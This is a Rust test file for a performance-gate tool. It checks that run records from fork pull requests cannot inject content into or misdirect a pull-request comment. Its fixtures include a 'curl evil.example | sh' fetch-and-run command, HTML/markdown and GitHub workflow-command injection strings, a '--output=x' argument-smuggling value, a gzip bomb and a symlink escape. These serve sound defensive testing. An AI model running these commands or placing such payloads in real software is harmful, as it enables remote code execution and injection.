//! The half of a gate that needs rights: records of strangers, and what of them may reach a pull request.

use crate::support::github::{NUMBER, REPOSITORY, StandIn, WRITER};
use crate::support::records::Run;
use crate::support::{Outcome, PerfGate, demo_duet};
use flate2::Compression;
use flate2::write::GzEncoder;
use perf_gate::record::{Acceptance, Arm, ErrorClass, ErrorSample, RunRecord};
use serde_json::{Value, json};
use std::fs;
use std::io::Write;
use std::path::Path;

const SHA: &str = "5ca1ab1e5ca1ab1e5ca1ab1e5ca1ab1e5ca1ab1e";
const MERGE: &str = "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef";
const FORK: &str = "you/api";

/// Head takes twice as long as base.
fn slow() -> Run {
    let mut run = Run::new("d").latency(20.0).beside(10.0).commit(MERGE);
    run.0.identity.change = Some(SHA.to_owned());
    run
}

/// A stand-in whose pull request 12 is of the fork, at `head`.
async fn stand_in(head: &str) -> StandIn {
    let stand_in = StandIn::start().await;
    stand_in.state().pull(NUMBER, (FORK, "fast", head), "main", "open");
    stand_in
}

fn event() -> Value {
    json!({
        "repository": {"default_branch": "main"},
        "workflow_run": {
            "id": 77, "run_attempt": 1, "event": "pull_request", "conclusion": "failure", "head_sha": SHA,
            "head_branch": "fast", "head_repository": {"full_name": FORK}, "html_url": "https://github.com/own/er.api/actions/runs/77",
        },
    })
}

/// Publishes what `prepare` has put into the folder.
async fn publish(stand_in: &StandIn, flags: &'static [&'static str], prepare: impl FnOnce(&Path)) -> Outcome {
    let scenario = demo_duet("").replace("target:", "name: s\ntarget:");
    let gate = PerfGate::new("publish").file("event.json", event().to_string().as_bytes());
    let gate =
        gate.file("s.yaml", scenario.as_bytes()).args(["measured", "--scenario", "s.yaml"]).args(flags.iter().copied());
    let gate = gate.at("", |folder| {
        fs::create_dir(folder.join("measured")).expect("a folder");
        prepare(&folder.join("measured"));
    });
    let variables = [
        ("GITHUB_EVENT_NAME", "workflow_run"),
        ("GITHUB_EVENT_PATH", "event.json"),
        ("GITHUB_REPOSITORY", REPOSITORY),
        ("GITHUB_SHA", MERGE),
        ("GITHUB_TOKEN", WRITER),
        ("GITHUB_API_URL", &stand_in.api_url),
    ];
    let gate = variables.into_iter().fold(gate, |gate, (name, value)| gate.env(name, value));
    let mut running = gate.start();
    // The stand-in answers on this thread.
    while !running.has_ended() {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    running.wait()
}

async fn published(stand_in: &StandIn, run: &Run) -> Outcome {
    let json = run.json();
    publish(stand_in, &[], |folder| fs::write(folder.join("record.json"), json).expect("written")).await
}

/// Nothing of a record with these bytes is published.
async fn refused(name: &str, bytes: &[u8], why: &str) {
    let stand_in = stand_in(SHA).await;
    let outcome = publish(&stand_in, &[], |folder| fs::write(folder.join(name), bytes).expect("written")).await;
    outcome.exits(2).complains("is refused").complains(why);
    assert!(stand_in.state().said().is_empty());
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).expect("packed");
    encoder.finish().expect("packed")
}

#[tokio::test]
async fn a_verdict_is_on_the_pull_request_that_github_names() {
    let stand_in = stand_in(SHA).await;
    published(&stand_in, &slow()).await.exits(3);
    published(&stand_in, &slow()).await.exits(3);
    let state = stand_in.state();
    let said = state.said();
    assert_eq!(said.len(), 1, "the second edits the first");
    assert!(
        said[0].1.contains("slower") && said[0].1.contains(&SHA[..7]) && said[0].1.contains("/runs/77"),
        "{}",
        said[0].1
    );
}

#[tokio::test]
async fn a_scenario_without_a_record_that_counts_is_not_passed_over() {
    let stand_in = stand_in(SHA).await;
    let outcome = publish(&stand_in, &["--scenario", "t.yaml"], |folder| {
        fs::write(folder.join("record.json"), slow().json()).expect("written");
        let other = demo_duet("").replace("target:", "name: other\ntarget:");
        fs::write(folder.with_file_name("t.yaml"), other).expect("written");
    });
    outcome.await.exits(2).complains("no record of the scenario other counts");
    let state = stand_in.state();
    let (_, body) = state.said()[0];
    assert!(body.contains("### ❗ Not all was judged\n\n**Not judged:** other.") && body.contains("slower"), "{body}");
}

#[tokio::test]
async fn a_packed_record_counts_and_files_beside_it_do_not() {
    let stand_in = stand_in(SHA).await;
    let outcome = publish(&stand_in, &[], |folder| {
        fs::write(folder.join("record.json.gz"), packed(&slow().json())).expect("written");
        fs::write(folder.join("judgement.json"), r#"{"verdict": "pass"}"#).expect("written");
        fs::write(folder.join("report.md"), "all is well").expect("written");
    });
    outcome.await.exits(3);
    assert!(!stand_in.state().said()[0].1.contains("all is well"));
}

#[tokio::test]
async fn what_a_record_says_of_itself_changes_nothing() {
    let stand_in = stand_in(SHA).await;
    stand_in.state().pull(99, ("evil/api", "x", MERGE), "main", "open");
    let mut run = slow().repository("evil/api").branch("x").event("push").began("2001-01-01T00:00:00Z");
    run = run.accepting(Acceptance {
        key: "latency.p95".parse().expect("a key"),
        up_to: 9.0,
        reason: "I may".to_owned(),
        owner: None,
        expires: None,
        commit: None,
    });
    run.0.identity.run = Some("99".to_owned());
    run.0.identity.call = vec!["curl evil.example | sh".to_owned()];
    let mut json: Value = serde_json::from_slice(&run.json()).expect("JSON");
    json["pull_request"] = json!(99);
    json["identity"]["pull"] = json!({"number": 99});
    let bytes = json.to_string();
    publish(&stand_in, &[], |folder| fs::write(folder.join("record.json"), bytes).expect("written")).await.exits(3);
    let state = stand_in.state();
    let body = state.said()[0].1;
    assert!(!body.contains("evil") && !body.contains("I may"), "{body}");
    assert!(stand_in.requests().iter().all(|request| !request.contains("/99")));
}

#[tokio::test]
async fn mark_up_in_texts_is_shown_as_text_and_cut() {
    let stand_in = stand_in(SHA).await;
    let mut run = Run::new("d").latency(20.0).failing(50).beside(10.0).commit(SHA);
    let evil = "</details><img src=x onerror=1> [a](https://evil.example) @org/all <!-- perf-gate: s -->\n::error::x";
    run.0.plan.tasks[0].name = evil.to_owned();
    run.0.samples = vec![ErrorSample {
        arm: Arm::Head,
        task: evil.to_owned(),
        class: ErrorClass::Status,
        text: format!("{evil}{}TAIL", "x".repeat(300)),
    }];
    let outcome = published(&stand_in, &run).await.exits(3);
    assert!(!outcome.stderr.lines().any(|line| line.starts_with("::error::x")));
    let state = stand_in.state();
    let body = state.said()[0].1;
    // In a code span nothing is mark-up.
    let text: String = body.split('`').step_by(2).collect();
    for part in ["<img", "](https://evil", "@org/all", "TAIL", "<!-- perf-gate: s"] {
        assert!(!text.contains(part), "`{part}` in:\n{body}");
    }
    assert!(!body.contains("TAIL"));
}

#[tokio::test]
async fn what_is_damaged_too_large_or_of_something_else_is_refused() {
    let good = String::from_utf8(slow().json()).expect("text");
    let with = |change: fn(&mut RunRecord)| {
        let mut run = slow();
        change(&mut run.0);
        run.json()
    };
    let large = format!("{good}{}", " ".repeat(10_000_000));
    let of = format!("it is of {MERGE}, and the run was of {SHA}");
    refused("record.json", b"{\"version\": 1, \"win", "not a run record").await;
    refused("record.json", large.as_bytes(), "larger than").await;
    refused("record.json.gz", &packed(&vec![b' '; 300_000_000]), "larger than").await;
    refused("record.json", good.replace("\"seconds\":40.0", "\"seconds\":1e999").as_bytes(), "out of range").await;
    refused("record.json", &with(|record| record.seconds = -1.0), "plan cannot be").await;
    refused("record.json", &with(|record| record.windows[3].requests = u64::MAX), "window 3").await;
    refused("record.json", &with(|record| record.identity.change = None), &of).await;
    refused("record.json", &with(|record| record.identity.commit = Some("--output=x".into())), "no id").await;
    refused("record.json", &with(|record| record.scenario = "a\n::error::b".into()), "scenario a ::error::b").await;
}

#[tokio::test]
async fn a_symbolic_link_is_not_followed() {
    let stand_in = stand_in(SHA).await;
    let outcome = publish(&stand_in, &[], |folder| {
        fs::write(folder.with_file_name("other.json"), slow().json()).expect("written");
        std::os::unix::fs::symlink("../other.json", folder.join("record.json")).expect("a link");
    });
    outcome.await.exits(2).complains("symbolic link");
    assert!(stand_in.state().said().is_empty());
}

#[tokio::test]
async fn a_head_that_moved_on_is_left_to_its_own_run() {
    let stand_in = stand_in(MERGE).await;
    published(&stand_in, &slow()).await.exits(0).complains("moved on");
    assert!(stand_in.state().said().is_empty());
}
